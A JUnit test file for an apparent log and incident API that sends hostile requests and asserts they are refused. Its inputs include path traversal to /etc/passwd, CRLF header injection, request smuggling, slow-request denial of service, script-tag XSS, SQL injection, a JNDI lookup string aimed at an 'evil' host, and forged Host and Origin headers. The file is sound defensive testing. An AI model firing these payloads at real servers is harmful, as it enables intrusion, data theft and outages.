package dev.oopsight.query;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.oopsight.access.Access;
import dev.oopsight.access.Role;
import dev.oopsight.access.User;
import dev.oopsight.access.UsersFile;
import dev.oopsight.log.HostId;
import dev.oopsight.trace.Kind;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody hostile would try, and what comes of it. */
class AttackTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int FEEDBACK_BYTES = 64 << 10;
  private static final int EXPLAIN_BYTES = 1 << 20;

  private final KnownIncidents known = new KnownIncidents().incident(SeedIncident.onWeb1());
  @TempDir private Path dir;
  private Path audit;
  private GuardedApi api;

  @BeforeEach
  void start() {
    audit = dir.resolve("audit");
    api = start(Access.Bounds.DEFAULT);
  }

  private GuardedApi start(Access.Bounds bounds) {
    return GuardedApi.start(
        known,
        new Access(
            Optional.empty(),
            false,
            false,
            Optional.empty(),
            bounds,
            new Access.Audit(false, Optional.of(audit))));
  }

  @AfterEach
  void stopAndStillAnswer() throws Exception {
    assertThat(api.get("/api/v1/hosts/web1").statusCode()).isEqualTo(200);
    api.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/page/../HttpApi.class",
        "/page/..%2fHttpApi.class",
        "/page/%2e%2e/HttpApi.class",
        "/page/%2e%2e%2fHttpApi.class",
        "/page/..%5cHttpApi.class",
        "/page/..\\HttpApi.class",
        "/page/%252e%252e%252fHttpApi.class",
        "/page/..%c0%afHttpApi.class",
        "/page/..;/HttpApi.class",
        "/page/app.js%00.png",
        "/page//etc/passwd",
        "/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "//etc/passwd",
        "/file:///etc/passwd",
        "http://localhost/../etc/passwd",
        "/api/v1/hosts/..%2f..%2f..%2fmetrics",
        "/api/v1/hosts/%2e%2e/%2e%2e/metrics",
        "/api/v1/hosts/%252e%252e%252f",
        "/api/v1/hosts/web1%00",
        "/api/v1/hosts/web1/../../../metrics",
        "/api/v1/incidents/..%2f..%2f",
        "*",
      })
  void pathTricksLeadNowhere(String path) throws IOException {
    String answer = api.rawGet(path);

    assertThat(answer).containsPattern("^HTTP/1.1 4\\d\\d ").contains("application/problem+json");
    assertThat(answer).doesNotContain("root:", "\u00ca\u00fe\u00ba\u00be", "oopsight_", "CAFE");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/healthz/../api/v1/hosts",
        "/healthz/%2e%2e/api/v1/hosts",
        "/healthz/..%2fapi/v1/hosts",
        "/healthz;/../api/v1/hosts",
        "/api/v1/hosts/../../../healthz",
        "/api/v1/incidents/../../../healthz",
        "/readyz%2f..%2f..%2fmetrics",
        "/healthz%3f/api/v1/hosts",
        "/HEALTHZ",
        "/api/v1/explain/../hosts",
      })
  void pathTricksLeadNobodyPastTheGate(String path) throws Exception {
    Path users = dir.resolve("users");
    new UsersFile(users).addToken(new User("ann", Role.READ));
    try (GuardedApi guarded = GuardedApi.start(known, GuardedApi.to(users))) {
      assertThat(guarded.rawGet(path)).containsPattern("^HTTP/1.1 40[01] ").doesNotContain("web1");
    }
  }

  @Test
  void pathsAndHeadersThatAreTooLongAreRefused() throws IOException {
    assertThat(api.rawGet("/api/v1/hosts/" + "a".repeat(10_000)))
        .startsWith("HTTP/1.1 414")
        .contains("8 KiB");
    assertThat(api.rawGet("/api/v1/hosts", "X-Long: " + "a".repeat(10_000)))
        .startsWith("HTTP/1.1 431")
        .contains("8 KiB");
    String[] many = new String[2000];
    java.util.Arrays.setAll(many, i -> "X-" + i + ": many");
    assertThat(api.rawGet("/api/v1/hosts", many)).startsWith("HTTP/1.1 431");
  }

  @ParameterizedTest
  @CsvSource({"true", "false"})
  void oversizedBodiesAreRefusedWhetherTheyTellTheirLengthOrNot(boolean tells) throws Exception {
    String feedback = "/api/v1/incidents/" + SeedIncident.onWeb1().id() + "/feedback";

    assertThat(sized(feedback, FEEDBACK_BYTES + 1, tells)).isEqualTo(413);
    assertThat(sized("/api/v1/explain", EXPLAIN_BYTES + 1, tells)).isEqualTo(413);
    assertThat(sized("/api/v1/explain", EXPLAIN_BYTES, tells)).isEqualTo(200);
  }

  @Test
  void aBodyThatIsLargerThanAnyIsNotEvenRead() throws IOException {
    try (Socket socket = api.socket()) {
      send(
          socket,
          "POST /nowhere HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999\r\n\r\n");
      assertThat(firstLine(socket)).startsWith("HTTP/1.1 413");
    }
  }

  @Test
  void aBodyThatTurnsOutToBeLargerThanAnyIsRefused() throws IOException {
    String piece = "100000\r\n" + "a".repeat(1 << 20) + "\r\n";
    try (Socket socket = api.socket()) {
      send(
          socket,
          "POST /api/v1/explain HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n");
      for (int i = 0; i < 16; i++) send(socket, piece);
      send(socket, "1\r\na\r\n");
      assertThat(firstLine(socket)).startsWith("HTTP/1.1 413");
    }
  }

  private int sized(String path, int bytes, boolean tells) throws Exception {
    byte[] body = "a".repeat(bytes).getBytes(StandardCharsets.US_ASCII);
    var publisher =
        tells
            ? BodyPublishers.ofByteArray(body)
            : BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body));
    HttpRequest request =
        api.request(path, "Content-Type", "application/json").POST(publisher).build();
    return HttpClient.newHttpClient().send(request, BodyHandlers.discarding()).statusCode();
  }

  @Test
  void whoWritesAllBeforeReadingHearsThatItWasTooMuch() throws IOException {
    try (Socket socket = api.socket()) {
      send(
          socket,
          "POST /api/v1/explain HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n%s"
              .formatted(4 * EXPLAIN_BYTES, "a".repeat(4 * EXPLAIN_BYTES)));
      send(socket, "GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");

      assertThat(new String(socket.getInputStream().readAllBytes(), StandardCharsets.US_ASCII))
          .startsWith("HTTP/1.1 413")
          .contains("HTTP/1.1 200");
    }
  }

  @Test
  void slowHeadsAreCut() throws Exception {
    try (GuardedApi hasty = start(hasty());
        Socket socket = hasty.socket()) {
      send(socket, "GET /healthz HTTP/1.1\r\nHost: localhost\r\n");

      assertThat(dribbles(socket, "X-a: b\r\n")).isTrue();
    }
  }

  @Test
  void slowHeadsAreCutBehindAGoodRequestToo() throws Exception {
    try (GuardedApi hasty = start(hasty());
        Socket socket = hasty.socket()) {
      send(socket, "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n");
      assertThat(firstLine(socket)).startsWith("HTTP/1.1 200");

      assertThat(dribbles(socket, "X")).isTrue();
    }
  }

  @Test
  void slowBodiesAreCut() throws Exception {
    try (GuardedApi hasty = start(hasty());
        Socket socket = hasty.socket()) {
      send(
          socket,
          "POST /api/v1/explain HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n");

      assertThat(dribbles(socket, "a")).isTrue();
    }
  }

  @Test
  void silentClientsAreCut() throws Exception {
    try (GuardedApi hasty = start(hasty());
        Socket socket = hasty.socket()) {
      assertThat(socket.getInputStream().read()).isEqualTo(-1);
    }
  }

  @Test
  void idleConnectionsKeepNobodyOutForLong() throws Exception {
    Access.Bounds few = new Access.Bounds(1000, 5, seconds(2), seconds(2), 256);
    List<Socket> held = new ArrayList<>();
    try (GuardedApi small = start(few)) {
      for (int i = 0; i < 6; i++) held.add(small.socket());

      assertThat(small.get("/healthz").statusCode()).isEqualTo(200);
    } finally {
      for (Socket socket : held) socket.close();
    }
  }

  private static Access.Bounds hasty() {
    return new Access.Bounds(1000, 1000, seconds(2), seconds(3), 256);
  }

  private static Duration seconds(int seconds) {
    return Duration.ofSeconds(seconds);
  }

  /** Sends a piece ten times a second; whether the connection was closed for it in time. */
  private static boolean dribbles(Socket socket, String piece) {
    return Boolean.TRUE.equals(
        await()
            .pollInterval(Duration.ofMillis(100))
            .atMost(Duration.ofSeconds(30))
            .until(
                () -> {
                  try {
                    send(socket, piece);
                    return false;
                  } catch (IOException e) {
                    return true;
                  }
                },
                Boolean::booleanValue));
  }

  @Test
  void whoAsksTooOftenIsAskedToWait() throws Exception {
    try (GuardedApi small = start(new Access.Bounds(1, 1000, seconds(20), seconds(30), 256))) {
      HttpResponse<String> answer = small.get("/api/v1/hosts");
      for (int i = 0; i < 50 && answer.statusCode() == 200; i++)
        answer = small.get("/api/v1/hosts");

      assertThat(answer.statusCode()).isEqualTo(429);
      assertThat(answer.headers().firstValue("Retry-After")).contains("1");
      assertThat(JSON.readTree(answer.body()).path("detail").asText()).contains("1 a second");
      assertThat(small.get("/healthz").statusCode()).as("health is not counted").isEqualTo(200);
      await().atMost(seconds(20)).until(() -> small.get("/api/v1/hosts").statusCode() == 200);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/v1/hosts/web1%0d%0aSet-Cookie:%20x=1",
        "/api/v1/hosts?limit=1&cursor=x%0d%0aSet-Cookie:%20x=1",
        "/api/v1/incidents?kind=x%0d%0aSet-Cookie:%20x=1&limit=1",
        "/api/v1/hosts/web1/incidents?limit=1&since=0%0d%0aSet-Cookie:%20x=1",
        "/api/v1/rules/x%0aSet-Cookie:%20x=1",
        "/api/v1/incidents/x%e5%98%8a%e5%98%8dSet-Cookie:%20x=1",
      })
  void headersCannotBeInjected(String path) throws IOException {
    String answer = api.rawGet(path);

    assertThat(answer).containsPattern("^HTTP/1.1 4\\d\\d ");
    assertThat(head(answer)).doesNotContain("Set-Cookie");
  }

  @Test
  void headersCannotBeInjectedByTheNameOfAHostIntoTheLinkToThePageAfter() throws Exception {
    HostId forged = new HostId("a>;rel=x,<//evil.com>\";");
    known.incident(seed(forged, 2)).incident(seed(forged, 3));

    HttpResponse<String> answer =
        api.get("/api/v1/hosts/" + encoded(forged.value()) + "/incidents?limit=1");

    assertThat(answer.headers().firstValue("Link").orElseThrow())
        .matches("</api/v1/hosts/[\\w%.~-]+/incidents\\?limit=1&cursor=[\\w=-]+>; rel=\"next\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
        "POST /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: a\r\n folded: b\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX : a\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
        "GET /healthz HTTP/1.1\r\n\r\n",
        "GET /healthz\u0000 HTTP/1.1\r\nHost: localhost\r\n\r\n",
      })
  void requestsThatTwoServersWouldReadInTwoWaysAreRefused(String request) throws IOException {
    try (Socket socket = api.socket()) {
      send(socket, request);
      assertThat(firstLine(socket)).startsWith("HTTP/1.1 400");
    }
  }

  @Test
  void storedHtmlIsNeverAnsweredAsSuch() throws Exception {
    HostId html = new HostId("<script>alert(1)</script>");
    known.incident(seed(html, 2));

    for (String path :
        List.of(
            "/api/v1/hosts",
            "/api/v1/hosts/" + encoded(html.value()),
            "/api/v1/incidents",
            "/api/v1/incidents/" + new UUID(0, 2),
            "/api/v1/incidents/" + new UUID(0, 2) + "?format=text",
            "/api/v1/hosts/" + encoded("<script>nobody</script>"),
            "/%3Cscript%3Ealert(1)%3C/script%3E")) {
      HttpResponse<String> answer = api.get(path, "Accept", "text/html");

      assertThat(answer.headers().firstValue("Content-Type").orElseThrow())
          .as(path)
          .matches("application/(problem\\+)?json|text/plain; ?charset=utf-8");
      assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
      assertThat(answer.headers().firstValue("Content-Security-Policy"))
          .contains("default-src 'none'; frame-ancestors 'none'");
    }
  }

  @Test
  void everyAnswerSaysWhatBrowsersMayDoWithIt() throws Exception {
    for (String path : List.of("/", "/page/app.js", "/api/v1/hosts", "/metrics", "/nowhere")) {
      HttpResponse<String> answer = api.get(path);
      assertThat(answer.headers().map().keySet())
          .as(path)
          .contains("x-content-type-options", "referrer-policy", "cross-origin-resource-policy");
      assertThat(answer.headers().allValues("Content-Security-Policy"))
          .singleElement()
          .asString()
          .contains("frame-ancestors 'none'");
      assertThat(answer.headers().map().keySet())
          .doesNotContain("server", "access-control-allow-origin", "x-powered-by");
    }
    assertThat(api.rawGet("/%zz")).contains("X-Content-Type-Options: nosniff");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "web1\nweb2",
        "web1\r\nX: y",
        "\u202eweb1",
        "web\u20281",
        "web\u00001",
        "web\u001b[31m1",
        "../../../etc/passwd",
        "..",
        "'; DROP TABLE hosts; --",
        "${jndi:ldap://evil/x}",
        "%s%s%n",
      })
  void forgedNamesOfHostsAreTextAndNothingElse(String name) throws Exception {
    for (String route : List.of("", "/incidents", "/config", "/changes", "/risk")) {
      HttpResponse<String> answer = api.get("/api/v1/hosts/" + encoded(name) + route);

      assertThat(answer.statusCode()).as(route).isBetween(400, 404);
      assertThat(answer.headers().firstValue("Content-Type")).contains("application/problem+json");
      assertThat(answer.body().chars().filter(c -> c < ' ')).as("a line of JSON").isEmpty();
      JsonNode problem = JSON.readTree(answer.body());
      assertThat(problem.path("status").asInt()).isEqualTo(answer.statusCode());
    }
  }

  @Test
  void aForgedNameOfAHostOfTenKilobytesIsTooLong() throws Exception {
    assertThat(api.rawGet("/api/v1/hosts/" + "a".repeat(10 << 10))).startsWith("HTTP/1.1 414");
    assertThat(api.get("/api/v1/hosts/" + "a".repeat(4000)).statusCode()).isBetween(400, 404);
    assertThat(HostId.of("a".repeat(10 << 10))).isEmpty();
  }

  @Test
  void forgedNamesOfHostsThatReadBackwardsAreNone() {
    for (String forged :
        List.of("\u202e1bew", "web\u20661", "web\u200b1", "web\u20281", "we\u00adb")) {
      assertThat(HostId.of(forged)).as(forged).isEmpty();
    }
    assertThat(HostId.of("wéb-1")).isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"evil.com", "evil.com:8080", "localhost.evil.com", "127.0.0.1.evil.com"})
  void aSiteWhoseNameLeadsHereIsNotAnswered(String host) throws IOException {
    String answer =
        api.raw("GET /api/v1/hosts HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n");

    assertThat(answer).startsWith("HTTP/1.1 421").doesNotContain("web1");
  }

  @ParameterizedTest
  @ValueSource(strings = {"localhost", "localhost:8080", "127.0.0.1", "[::1]:80", "LOCALHOST"})
  void thisMachineIsAnsweredByItsOwnNames(String host) throws IOException {
    assertThat(api.raw("GET /healthz HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"))
        .startsWith("HTTP/1.1 200");
  }

  @Test
  void aPageOfAnotherSiteChangesNothing() throws Exception {
    for (String[] forged :
        List.of(
            new String[] {"Sec-Fetch-Site", "cross-site"},
            new String[] {"Sec-Fetch-Site", "same-site"},
            new String[] {"Origin", "http://evil.com"},
            new String[] {"Origin", "null"},
            new String[] {"Origin", "http://127.0.0.1:1"})) {
      HttpResponse<String> answer = api.acknowledge(forged);
      assertThat(answer.statusCode()).as(String.join(": ", forged)).isEqualTo(403);
      assertThat(answer.body()).contains("another site");
    }
    assertThat(api.acknowledge("Sec-Fetch-Site", "same-origin").statusCode()).isEqualTo(200);
    assertThat(api.acknowledge("Origin", "http://127.0.0.1:" + api.port()).statusCode())
        .isEqualTo(200);
  }

  @Test
  void nothingOfARequestBreaksALineOfTheAudit() throws Exception {
    api.rawGet("/%zz\u202e\u2028{\"user\":\"root\"}", "User-Agent: x\",\"user\":\"root");
    api.raw(
        "GET /"
            + "a".repeat(5000)
            + "%00 HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
    api.acknowledge("Sec-Fetch-Site", "cross-site");

    await().atMost(seconds(20)).until(() -> Files.readAllLines(audit).size() >= 3);
    for (String line : Files.readAllLines(audit)) {
      assertThat(line).matches("\\p{ASCII}{1,1000}");
      assertThat(JSON.readTree(line).has("user")).isFalse();
      assertThat(JSON.readTree(line).path("status").asInt()).isBetween(400, 499);
    }
  }

  private static dev.oopsight.incident.KernelIncident seed(HostId host, int id) {
    return SeedIncident.with(
        host, new UUID(0, id), SeedIncident.BEGAN.plusSeconds(id), Kind.OOM_KILL);
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
  }

  private static void send(Socket socket, String text) throws IOException {
    socket.getOutputStream().write(text.getBytes(StandardCharsets.UTF_8));
    socket.getOutputStream().flush();
  }

  private static String firstLine(Socket socket) throws IOException {
    StringBuilder line = new StringBuilder();
    InputStream in = socket.getInputStream();
    for (int c = in.read(); c >= 0 && c != '\r'; c = in.read()) line.append((char) c);
    return line.toString();
  }

  private static String head(String answer) {
    return answer.substring(0, answer.indexOf("\r\n\r\n"));
  }
}
